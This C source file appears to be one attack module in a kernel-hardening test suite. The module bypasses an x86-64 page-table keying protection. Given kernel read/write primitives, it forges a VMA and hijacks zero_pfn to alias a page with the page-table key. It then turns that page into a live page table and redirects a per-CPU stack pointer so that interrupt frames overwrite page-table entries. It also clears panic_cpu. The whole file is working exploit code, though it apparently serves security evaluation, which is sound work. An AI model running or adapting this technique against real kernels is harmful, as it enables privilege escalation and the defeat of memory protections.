// SPDX-License-Identifier: GPL-2.0-only
/*
 * What is keyed is at one address of the kernel: an entry that would map it at another
 * one is refused. Here an ordinary page is mapped at another address with the key of page
 * tables, which nobody asks about, and then becomes a page table. The address is right
 * below a stack in vmalloc's range, so that an interrupt of a section pushes entries to it.
 */
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "chunk.h"
#include "direct_map.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define LIKE_PART	0x5b
#define TABLES_PART	0x56
#define NR_TABLES	1500
#define KEY_OF_TABLES	(1UL << 60)
#define HOLE		(10UL << 40)	/* of vmalloc's range */
#define KEY_OF_PREMAP	(PTE_KERNEL_RW | KEY_OF_TABLES)
#define CHANGER_CPU	1
#define CHANGED_PART	0x58
#define CHANGED_TABLES	64
#define FUNCTION	"change_in_section"
#define FUNCTION_SIZE	0x1000
#define TOP_OF_STACK	"pcpu_hot"
#define KERNEL_CS	0x10
#define PUSHED		64	/* bytes up to rdx */
#define ALIGNMENT	16UL
#define SECONDS		20
#define LAST_SLOTS	40
#define POPULATE	23

static struct {
	volatile bool ready, calibrated, go, gone;
} *changer;

static sigjmp_buf no_page;

static void on_fault(int signal)
{
	siglongjmp(no_page, signal);
}

static size_t changed_size(void)
{
	return CHANGED_TABLES * PMD_SIZE;
}

static void change(int protection)
{
	mprotect((void *)user_room(CHANGED_PART), changed_size(), protection);
}

static void run_changer(void)
{
	stay_on_cpu(CHANGER_CPU);
	changer->ready = true;
	while (!changer->calibrated) {
		change(PROT_READ);
		change(PROT_READ | PROT_WRITE);
		madvise((void *)user_room(CHANGED_PART), changed_size(), POPULATE);
	}
	while (!changer->go)
		;
	change(PROT_READ);
	changer->gone = true;
	for (;;)
		;
}

/* How far below its top the section has the stack pointer. */
static uint64_t find_depth(const struct task *task, uint64_t top)
{
	uint64_t function = ksymbol(FUNCTION), words[2048];
	time_t end = time(NULL) + SECONDS;
	size_t i;

	while (time(NULL) < end) {
		for (i = 0; i < sizeof(words); i += PAGE_SIZE)
			kread(task->stack + i, (char *)words + i, PAGE_SIZE);
		for (i = 0; i < sizeof(words) / 8 - 4; i++)
			if (words[i] - function < FUNCTION_SIZE && words[i + 1] == KERNEL_CS &&
			    words[i + 3] - task->stack < sizeof(words))
				return top - words[i + 3];
	}
	return 0;
}

static bool can_read(volatile char *page)
{
	if (sigsetjmp(no_page, 1))
		return false;
	(void)*page;
	return true;
}


static bool lead_address_to(volatile char *like, uint64_t at, uint64_t phys, uint64_t prot)
{
	uint64_t zero = ksymbol("zero_pfn"), old = kread64(zero), vma, entry;
	char byte;
	struct iovec to = { &byte, 1 }, from = { (void *)at, 1 };
	struct task task;
	struct slot slot;

	if (!zero || ktask(0, &task))
		return false;
	entry = find_empty_entry(task.mm, at);
	vma = forge_vma(like, at, prot);
	if (!entry || !vma)
		return false;
	kwrite64(entry, vma);
	kwrite64(zero, phys / PAGE_SIZE);
	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
	kwrite64(zero, old);
	kwrite64(entry, 0);
	return !kwalk(at, LEAF, 0, &slot) && slot.value && (slot.phys & -PAGE_SIZE) == phys;
}

static uint8_t frame_of(uint64_t phys)
{
	uint8_t frame = 0;

	kread(frame_at(phys / PAGE_SIZE), &frame, sizeof(frame));
	return frame;
}

/* Which table of ours is it? */
static int become_table(struct chunk *chunk, uint64_t phys, volatile char *base)
{
	struct slot slot;
	int i, j;

	munmap((void *)chunk->at, CHUNK_SIZE);
	if (put_on_free_list(chunk->page, CHUNK_ORDER))
		return -1;
	for (i = 0; i < NR_TABLES; i++) {
		(void)base[i * PMD_SIZE];
		if (kwalk((uint64_t)base + i * PMD_SIZE, LEVEL_PTE, 0, &slot))
			continue;
		if ((slot.slot & -PAGE_SIZE) == direct_map_base() + phys)
			return i;
	}
	(void)j;
	return -1;
}

static enum outcome look(const uint64_t *before, uint64_t table, volatile char *at)
{
	int slot, n = PAGE_SIZE / 8, changed = 0;
	uint64_t value, last = 0;

	signal(SIGSEGV, on_fault);
	signal(SIGBUS, on_fault);
	for (slot = 0; slot < n; slot++)
		if (slot >= n - LAST_SLOTS && kread64(table + slot * 8) != before[slot])
			fprintf(stderr, "P %d %lx was %lx\n", slot, kread64(table + slot * 8), before[slot]);
	for (slot = n - 1; slot >= n - LAST_SLOTS; slot--) {
		value = kread64(table + slot * 8);
		if (value == before[slot])
			continue;
		changed++;
		last = value;
		if (value & PTE_PRESENT && value & PTE_USER && (value & PTE_PFN_MASK) >> 30 == 0 &&
		    !(value & 0x0ff0000000000000UL) && can_read(at + slot * PAGE_SIZE))
			return won("entry %d of a page table is 0x%lx (was 0x%lx), and user space reads by it",
				   slot, value, before[slot]);
	}
	if (changed)
		return won("%d entries of a page table were changed, one to 0x%lx", changed, last);
	return lost("no entry was changed, mprotect() %s", changer->gone ? "came back" : "did not come back");
}

static uint64_t stack_at;
static volatile char *stack_page;

static void dump(void)
{
	const volatile uint64_t *w = (const volatile uint64_t *)stack_page;
	uint64_t text = ksymbol("_text");
	int i;

	for (i = 0; i < 512; i++)
		if (w[i] - text < 0x1000000)
			fprintf(stderr, "S %03x %lx\n", i * 8, w[i] - text + 0xffffffff81000000UL);
}

static enum outcome push(uint64_t table, volatile char *at)
{
	uint64_t top, normal, depth, before[512];
	struct task task;
	pid_t pid;
	int zero = 0;

	changer = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (mmap((void *)user_room(CHANGED_PART), changed_size(), PROT_READ | PROT_WRITE,
		 MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE | MAP_POPULATE, -1, 0) == MAP_FAILED)
		return broken("no memory");
	pid = fork();
	if (!pid)
		run_changer();
	while (!changer->ready)
		usleep(1000);
	ktask(pid, &task);
	normal = task.stack + task.stack_size;
	top = find_word(ksymbol_cpu(TOP_OF_STACK, CHANGER_CPU), 64, normal);
	depth = top ? find_depth(&task, normal) : 0;
	changer->calibrated = true;
	if (!depth)
		return broken("no interrupt of a section was seen (alias is there)");
	usleep(500000);
	kread(table, before, sizeof(before));
	kwrite(ksymbol("panic_cpu"), &zero, sizeof(zero));
	if (kread64(top) != normal)
		return broken("another task runs there");
	kwrite64(top, stack_at + PUSHED + ((depth + ALIGNMENT - 1) & -ALIGNMENT));
	changer->go = true;
	usleep(500000);
	if (changer->gone)
		kwrite64(top, normal);
	dump();
	return look(before, table, at);
}

/* With write protection what has a key is read-only, too. */
static uint64_t key_of_premap(void)
{
	char line[1024] = "";
	FILE *file = fopen("/proc/cmdline", "r");

	if (file)
		(void)!fgets(line, sizeof(line), file);
	return strstr(line, ",wp") ? (KEY_OF_PREMAP & ~PTE_RW) & ~PTE_DIRTY : KEY_OF_PREMAP;
}

enum outcome key_alias(void)
{
	uint64_t alias = vmalloc_base() + HOLE, phys;
	volatile char *base, *like;
	struct chunk chunk;
	struct slot slot;
	int i, which;

	if (!is_protected())
		return user_pte();
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	base = sparse_region(user_room(TABLES_PART), NR_TABLES, PROT_READ);
	like = map_small_pages(LIKE_PART, 3 * PAGE_SIZE);
	if (!base || !like || !find_chunks(&chunk, 1))
		return broken("no pages in a row");
	like[0] = 1;
	for (i = 1; i < 3; i++) {
		like[i * PAGE_SIZE] = 1;
		if (kwalk((uint64_t)like + i * PAGE_SIZE, LEVEL_PTE, 0, &slot) ||
		    !lead_address_to(like, alias + i * PAGE_SIZE, slot.phys, PTE_KERNEL_RW))
			return broken("no pages for a stack");
	}
	stack_at = alias + PAGE_SIZE;
	stack_page = like + PAGE_SIZE;
	phys = chunk.phys + MOVED * PAGE_SIZE;
	if (!lead_address_to(like, alias, phys, key_of_premap()))
		return lost("an ordinary page is not mapped with the key");
	use_up_blocks();
	which = become_table(&chunk, phys, base);
	if (which < 0)
		return lost("the page did not become a table of ours, its frame is 0x%x", frame_of(phys));
	corrupt_command("free");
	if (kwalk(alias, LEAF, 0, &slot) || (slot.phys & -PAGE_SIZE) != phys)
		return lost("the alias is gone");
	return push(direct_map_base() + phys, base + which * PMD_SIZE);
}
#else
enum outcome key_alias(void)
{
	return skipped("x86-64 only");
}
#endif
